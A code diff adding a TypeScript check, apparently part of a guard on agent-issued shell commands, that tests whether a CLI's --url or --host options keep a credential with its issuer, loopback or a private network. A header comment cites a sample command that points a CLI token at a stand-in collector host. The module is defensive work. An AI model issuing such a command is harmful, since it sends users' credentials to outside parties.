@@ -1,0 +1,42 @@
+// The issuer's own CLI given a server: `sentry-cli --url https://sentry.io info` sends the token to
+// its issuer, `--url https://collector.example` to whoever runs that host (docs/guard.md
+// "Credential routing").
+import { canonicalHost } from '../egress/hosts.js';
+import { isPrivateAddress } from '../egress/internal-hosts.js';
+import { issuerHost, type Issuer } from '../egress/issuers.js';
+import type { ShellCommand } from './model.js';
+import { runnerTarget } from './wrappers.js';
+
+/** Global options whose value is the server a CLI talks to, as a URL or a bare host. */
+const SERVER_OPTS = /^--(?:url|host|hostname|server|endpoint|api-url|base-url|api-host)$/;
+const LOOPBACK = /^(?:localhost|127(?:\.\d{1,3}){3}|\[?::1\]?)$/;
+
+/** The server a global option names (`--url U`, `--url=U`), or null when `word` names none. */
+function serverNamed(word: string, prev: string): string | null {
+  const eq = /^(--[\w-]+)=(.+)$/.exec(word);
+  const value =
+    eq !== null && SERVER_OPTS.test(eq[1] ?? '') ? eq[2] : SERVER_OPTS.test(prev) ? word : null;
+  return value === null || value === undefined ? null : (canonicalHost(value) ?? value);
+}
+
+/**
+ * True when every server the CLI's global options name (those before its first subcommand word:
+ * after it, `--url` is often data, as in `stripe webhook_endpoints create --url`) is one of
+ * `issuer`'s hosts, this machine or a private address (a self-hosted instance on the operator's
+ * network). This value is attacker-controlled (an agent wrote the command).
+ */
+export function cliStaysWithIssuer(c: ShellCommand, issuer: Issuer): boolean {
+  // most CLI runs start with their subcommand: one cheap test before reading words
+  if (!c.argv.some((a) => a.startsWith('--'))) return true;
+  const argv = runnerTarget(c.argv) ?? c.argv;
+  for (let i = 1; i < argv.length; i++) {
+    const word = argv[i] ?? '';
+    const prev = argv[i - 1] ?? '';
+    const host = serverNamed(word, prev);
+    if (host !== null) {
+      if (!issuerHost(issuer, host) && !LOOPBACK.test(host) && !isPrivateAddress(host))
+        return false;
+    } else if (!word.startsWith('-') && !prev.startsWith('-')) return true;
+  }
+  return true;
+}
